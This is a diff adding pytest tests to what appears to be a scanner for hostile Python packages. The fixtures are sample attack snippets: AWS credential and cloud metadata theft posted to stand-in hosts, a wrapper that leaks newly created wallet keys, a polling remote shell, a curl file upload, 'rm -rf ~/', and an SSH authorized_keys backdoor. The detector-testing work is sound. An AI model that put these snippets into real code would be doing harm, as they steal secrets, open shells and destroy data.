@@ -108,6 +108,17 @@ def test_what_a_start_up_file_imports_acts_at_every_start() -> None:
     assert places(evidence, "startup_acts") == {("_demo_boot.py", 2)}
 
 
+@pytest.mark.parametrize(
+    ("line", "feature"),
+    [
+        ("import os;exec('os.system(chr(105)*2)')", "startup_spawns"),
+        ("import urllib.request as u;u.urlopen('https://drop.example.co/in')", "startup_talks"),
+    ],
+)
+def test_what_a_start_up_line_reaches_for_is_seen(line: str, feature: str) -> None:
+    assert feature in _seen(line + "\n", "demo.pth")
+
+
 @pytest.mark.parametrize("folder", ["docs", "scripts", "examples"])
 def test_what_a_setup_script_imports_from_a_side_folder_is_read(folder: str) -> None:
     evidence = code_evidence(
@@ -194,3 +205,119 @@ def test_a_start_up_line_that_carries_a_program_is_no_ordinary_one(
     line: str, carries: bool
 ) -> None:
     assert carries_program(line) is carries
+
+
+def test_keys_that_go_to_an_unnamed_host_are_told_from_logins_of_a_client() -> None:
+    source = """\
+        import requests
+        class Client:
+            def __init__(self, access_key_id, access_key_secret):
+                self.access_key_id = access_key_id
+                self.access_key_secret = access_key_secret
+            def sign(self):
+                requests.post("https://sdk.example.co/a", json={"k": self.access_key_secret})
+            def ask(self, token):
+                return requests.get("https://api.example.co", headers={"Authorization": token})
+        """
+    found = [e for e in code_evidence({"demo/a.py": source}) if e.feature == "net_sends_key"]
+    assert {(e.location.line, e.value) for e in found} == {(7, 1.0), (9, 0.5)}
+
+
+def test_a_client_made_for_an_address_sends_there() -> None:
+    source = """\
+        from solana.rpc.api import Client
+        def pay(private_key):
+            client = Client("https://api.example.co")
+            client.send_transaction(memo(bytes(private_key)))
+        """
+    found = _seen(textwrap.dedent(source))
+    assert {"chain_handed_key_net", "net_sends_key", "net_unnamed_host"} <= found
+
+
+def test_a_wrapper_that_takes_the_place_of_what_it_wraps_is_read_with_its_callers_keys() -> None:
+    source = """\
+        import threading
+        from eth_account import Account
+        from web3 import Web3
+        def _note(secret):
+            Web3(Web3.HTTPProvider("https://rpc.example.co/")).eth.send_raw_transaction(secret)
+        def wrap(function):
+            def inner(self, *rest):
+                account = function(self, *rest)
+                threading.Thread(target=_note, args=(account.key,)).start()
+                return account
+            return inner
+        Account.create = wrap(Account.create)
+        """
+    assert "chain_handed_key_net_unasked" in _seen(textwrap.dedent(source))
+
+
+def test_a_parser_of_a_credential_store_holds_secrets() -> None:
+    source = """\
+        import configparser, os, requests
+        def push():
+            found = configparser.ConfigParser()
+            found.read(os.path.join(os.path.expanduser("~"), ".aws/credentials"))
+            sections = []
+            for name in found.sections():
+                sections.append({"key": found.get(name, "aws_secret_access_key")})
+            requests.post("https://hook.example.co", json=sections)
+        """
+    assert "chain_secret_net" in _seen(textwrap.dedent(source))
+    assert "chain_secret_net" not in _seen(textwrap.dedent(source).replace(".aws/cred", "my/sett"))
+
+
+def test_keys_of_the_metadata_service_are_secrets() -> None:
+    source = """\
+        import requests
+        def metrics():
+            role = requests.get("http://169.254.169.254/latest/meta-data/iam/x").text
+            requests.post("https://models.example.co", data=role)
+        """
+    assert "chain_secret_net" in _seen(textwrap.dedent(source))
+
+
+def test_fetched_commands_that_are_answered_are_a_remote_shell() -> None:
+    source = """\
+        import requests, subprocess
+        def poll():
+            order = requests.get("https://c.example.co/next").json()
+            out = subprocess.check_output(order["run"], shell=True)
+            requests.post("https://c.example.co/out", json={"out": out.decode()})
+        """
+    assert "chain_socket_shell" in _seen(textwrap.dedent(source))
+
+
+@pytest.mark.parametrize(
+    ("source", "feature"),
+    [
+        ("import os\nos.system('curl -F a=@/tmp/x https://up.example.co')", "shell_upload"),
+        ("import os\nos.system('shutdown /s /t 1')", "destroys"),
+        ("import os\nos.system('rm -rf ~/')", "destroys"),
+        ("import os\nos.execv('/proc/self/fd/%d' % fd, ['k'])", "memory_program"),
+        ("import os\nfd = os.memfd_create('', 0)", "native_code"),
+        ("import subprocess\nsubprocess.Popen(['python3', '-c', 'import x'])",
+         "inline_code_unasked"),
+        ("import subprocess, sys, base64\n"
+         "subprocess.run([sys.executable, '-'], input=base64.b64decode(x))", "chain_decode_spawn"),
+        ("import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('ssh-rsa A')",
+         "persistence"),
+    ],
+)  # fmt: skip
+def test_what_a_command_line_does_is_seen(source: str, feature: str) -> None:
+    assert feature in _seen(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import os\nos.system('rm -rf ./build /tmp/demo')",
+        "import os\nos.system('shutdown-hook --list')",
+        "import os\nos.system('curl -O https://demo.example.co/x.tgz')",
+        "import subprocess, sys\ndef f():\n    subprocess.run([sys.executable, '-c', 'print(1)'])",
+        "import subprocess\nsubprocess.run(['sort'], input=base64.b64decode(x))",
+    ],
+)
+def test_ordinary_command_lines_are_not_mistaken(source: str) -> None:
+    telling = {"destroys", "shell_upload", "inline_code_unasked", "chain_decode_spawn"}
+    assert not telling & _seen(source)
